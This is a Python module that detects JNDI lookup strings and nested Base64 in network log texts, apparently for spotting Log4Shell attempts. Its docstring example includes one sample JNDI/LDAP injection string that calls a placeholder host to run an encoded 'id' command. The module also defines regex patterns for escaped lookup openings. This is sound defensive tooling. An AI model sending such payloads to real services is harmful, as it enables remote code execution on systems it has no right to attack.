"""Search texts for JNDI lookups and Base64, each finding once and whole.

The Base64 in the path of a lookup belongs to the lookup; a lookup inside Base64, as in
HTTP basic credentials, is a lookup; Base64 inside decoded text is followed.
"""

from __future__ import annotations

import bisect
import itertools
import re
from dataclasses import dataclass, replace
from typing import TYPE_CHECKING, Literal

import numpy as np

from suricata_eve.analysis.base64text import (
    ASCII_GROUPS,
    UTF16_GROUPS,
    Encoded,
    encoded_path,
    find_base64,
)
from suricata_eve.analysis.contents import Content, classify
from suricata_eve.analysis.escapes import undo_escapes
from suricata_eve.analysis.jndi import Lookup, find_lookups, scan_lookups

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

__all__ = ["CANDIDATE", "LONG_RUN", "Finding", "search_texts"]

MAX_FINDINGS = 1_000
"""Findings reported of one text."""
MAX_LAYERS = 3
"""How deep Base64 in decoded Base64 is followed."""
_BATCH = 4_000_000

# "${", each of the two escaped or not.
_OPENING = r"(?i:(?:\$|%24|\\u0024|\\x24)(?:\{|%7b|\\u007b|\\x7b))"
# An escape that is escaped, and whole words in escapes.
_ESCAPED = r"%25|%5[Cc]|(?:%[0-9A-Fa-f]{2}){9}|(?:\\u00[0-9A-Fa-f]{2}){9}|(?:\\x[0-9A-Fa-f]{2}){9}"
CANDIDATE = f"{_OPENING}|{_ESCAPED}|{ASCII_GROUPS}|{UTF16_GROUPS}"
"""Expression (RE2) for texts that may hold something."""
LONG_RUN = r"[A-Za-z0-9+/_-]{16}"
"""The same for texts that may hold Base64 of bytes."""

_ENCODED = re.compile(f"{ASCII_GROUPS}|{UTF16_GROUPS}")
_BASIC = re.compile(rb"basic[ \t]{1,8}\Z", re.IGNORECASE)


@dataclass(frozen=True, slots=True)
class Finding:
    """Something hidden in a text.

    Attributes
    ----------
    kind : {"jndi", "base64", "eve"}
        A lookup, Base64, or one of EVE's own Base64 fields.
    match : str
        As it is in the text.
    lookup : Lookup or None
        The lookup, resolved.
    payload : Encoded or None
        The Base64, decoded.
    content : str or None
        What the payload is.
    """

    kind: Literal["jndi", "base64", "eve"]
    match: str
    lookup: Lookup | None = None
    payload: Encoded | None = None
    content: Content | None = None

    @property
    def cut(self) -> bool:
        """Whether it is a lookup without its closing brace."""
        return self.lookup is not None and not self.lookup.resolved.endswith("}")


def search_texts(texts: Sequence[str], *, binary: bool = False) -> list[list[Finding]]:
    """Find lookups and Base64 in texts.

    Parameters
    ----------
    texts : sequence of str
        The texts.
    binary : bool, default False
        Find also Base64 of bytes, and of text in scripts other than Latin.

    Returns
    -------
    list of list of Finding
        For each text what it holds, by place. At most 1,000 findings each.

    Examples
    --------
    >>> from suricata_eve.analysis.hidden import search_texts
    >>> ((found,),) = search_texts(["/?x=${jndi:ldap://192.0.2.66/Basic/Command/Base64/aWQ=}"])
    >>> found.kind, found.lookup.host, found.payload.text
    ('jndi', '192.0.2.66', 'id')
    """
    results: list[list[Finding]] = []
    batch: list[bytes] = []
    size = 0
    for text in texts:
        data = text.encode("utf-8", "replace")
        if batch and size + len(data) > _BATCH:
            results.extend(_search_batch(batch, binary=binary))
            batch, size = [], 0
        batch.append(data)
        size += len(data) + 1
    results.extend(_search_batch(batch, binary=binary))
    return results


def _search_batch(batch: list[bytes], *, binary: bool) -> Iterator[list[Finding]]:
    """Search some texts side by side: arrays cost the same for one as for many."""
    raw = b"\n".join(batch)
    plain = undo_escapes(raw)
    lengths = np.array([len(data) + 1 for data in batch], dtype=np.int64)
    offsets = np.concatenate(([0], np.cumsum(lengths)))
    edges = plain.places(offsets).tolist()
    runs = find_base64(plain.data, binary=binary)
    run_starts = [run.start for run in runs]
    for number, offset in enumerate(offsets[:-1].tolist()):
        start = edges[number]
        end = edges[number + 1] - 1 if number + 1 < len(batch) else len(plain.data)
        lookups = scan_lookups(plain.data[start:end])
        first = bisect.bisect_left(run_starts, start)
        inside = [
            replace(run, start=run.start - start, end=run.end - start)
            for run in runs[first : bisect.bisect_left(run_starts, end, first)]
        ]
        found: list[tuple[int, Iterator[Finding]]] = []
        for lookup in lookups:
            left, right = plain.origin(start + lookup.start, start + lookup.end)
            match = raw[left:right].decode("utf-8", "replace")
            sent = replace(lookup, start=left - offset, end=right - offset, match=match)
            found.append((left, _of_lookup(sent, match)))
        for run in _outside(inside, lookups):
            left, right = plain.origin(start + run.start, start + run.end)
            match = raw[left:right].decode("utf-8", "replace")
            before = plain.data[max(start, start + run.start - 16) : start + run.start]
            sent_run = replace(run, start=left - offset, end=right - offset)
            found.append((left, _of_run(sent_run, match, basic=bool(_BASIC.search(before)))))
        found.sort(key=lambda item: item[0])
        findings = itertools.chain.from_iterable(item[1] for item in found)
        yield list(itertools.islice(findings, MAX_FINDINGS))


def _outside(runs: list[Encoded], lookups: list[Lookup]) -> Iterator[Encoded]:
    """Yield the runs that are in no lookup; both come by place."""
    ends = list(itertools.accumulate((lookup.end for lookup in lookups), max))
    starts = [lookup.start for lookup in lookups]
    for run in runs:
        before = bisect.bisect_right(starts, run.start)
        if before == 0 or ends[before - 1] <= run.start:
            yield run


def _of_lookup(lookup: Lookup, match: str) -> Iterator[Finding]:
    finding = Finding("jndi", match, lookup)
    payload = _payload(lookup.path, cut=finding.cut) if lookup.path else None
    if payload is None:
        yield finding
        return
    yield replace(finding, payload=payload, content=classify(payload.text))
    yield from _inside(payload, match, layer=1)


def _payload(path: str, *, cut: bool) -> Encoded | None:
    """Return the Base64 of a path: where it says so, else what reads like text."""
    payload = encoded_path(path, cut=cut)
    if payload is not None or not _ENCODED.search(path):
        return payload
    runs = [(run, classify(run.text)) for run in find_base64(path.encode("utf-8", "replace"))]
    for wanted in ({"command"}, {"link", "json", "text"}):
        for run, content in runs:
            if content in wanted:
                return run
    return None


def _of_run(run: Encoded, match: str, *, basic: bool = False, layer: int = 0) -> Iterator[Finding]:
    lookups = find_lookups(run.text) if run.text else []
    if lookups:
        for lookup in lookups:
            yield from _of_lookup(lookup, match)
        return
    yield Finding("base64", match, payload=run, content=classify(run.text, basic=basic))
    yield from _inside(run, match, layer=layer + 1)


def _inside(outer: Encoded, match: str, *, layer: int) -> Iterator[Finding]:
    """Yield what is encoded in decoded text."""
    if layer > MAX_LAYERS or outer.text is None or not _ENCODED.search(outer.text):
        return
    for run in find_base64(outer.text.encode("utf-8", "replace")):
        yield from _of_run(run, match, layer=layer)
